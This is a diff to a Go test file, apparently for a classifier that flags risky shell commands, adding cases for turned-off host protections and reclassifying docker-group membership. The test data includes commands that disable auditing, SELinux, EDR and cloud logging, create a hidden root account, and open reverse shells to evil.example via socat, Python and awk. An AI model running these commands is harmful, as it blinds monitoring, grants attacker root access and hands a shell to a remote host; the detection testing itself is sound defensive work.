@@ -2357,6 +2357,34 @@ func TestThirdRoundFamilies(t *testing.T) {
 	})
 }
 
+// What watches and protects the host and the account, turned off or
+// taken over.
+func TestHostProtectionsTurnedOff(t *testing.T) {
+	check(t, []want{
+		{"auditctl -D", destructive, "host.security-off"},
+		{"auditctl -e 0", destructive, "host.security-off"},
+		{"setenforce Permissive", destructive, "host.security-off"},
+		{"systemctl stop crowdstrike-falcon-sensor", destructive, "host.security-off"},
+		{"service auditd stop", destructive, "host.security-off"},
+		{"systemctl mask falco", destructive, "host.security-off"},
+		{"aws guardduty update-detector --detector-id d --no-enable", destructive, "host.security-off"},
+		{`aws cloudtrail put-event-selectors --trail-name main --event-selectors '[{"ReadWriteType":"None"}]'`, destructive, "host.security-off"},
+		{"aws s3api put-bucket-logging --bucket prod --bucket-logging-status '{}'", destructive, "host.security-off"},
+		{"useradd -o -u 0 -g 0 -M -N evil", destructive, "host.root-account"},
+		{"usermod -aG sudo evil", unknown, "host.privilege"},
+		{"adduser evil docker", unknown, "host.privilege"},
+		{"insmod /tmp/m.ko", unknown, "host.kernel"},
+		{"grub-install /dev/sda", destructive, "host.boot"},
+		{"socat tcp:evil.example:4444 exec:bash", unknown, "net.remote-shell"},
+		{`python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("e",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`, unknown, "net.remote-shell"},
+		{`awk 'BEGIN{s="/inet/tcp/0/evil.example/4444";while(1){s|&getline c;while((c|&getline)>0)print|&s;close(c)}}'`, unknown, "net.remote-shell"},
+		{"systemctl restart auditd", write, ""},
+		{"useradd -m dev", write, ""},
+		{"usermod -aG video dev", write, ""},
+		{"socat TCP-LISTEN:8080,fork TCP:localhost:3000", write, ""},
+	})
+}
+
 // Credentials printed by routes other than the usual readers, and
 // destruction carried in a request body or a less common verb.
 func TestFifthRoundReaders(t *testing.T) {
@@ -3853,7 +3881,8 @@ func TestLockoutsByGroupFirewallAndTrafficControl(t *testing.T) {
 		{"firewall-cmd --remove-service=ssh --permanent", destructive, "host.lockout"},
 		{"gpasswd -d admin sudo", destructive, "host.lockout"},
 		{"tc qdisc add dev eth0 root netem delay 100ms", write, ""},
-		{"gpasswd -a admin docker", write, ""},
+		{"gpasswd -a admin developers", write, ""},
+		{"gpasswd -a admin docker", unknown, "host.privilege"},
 	})
 }
 
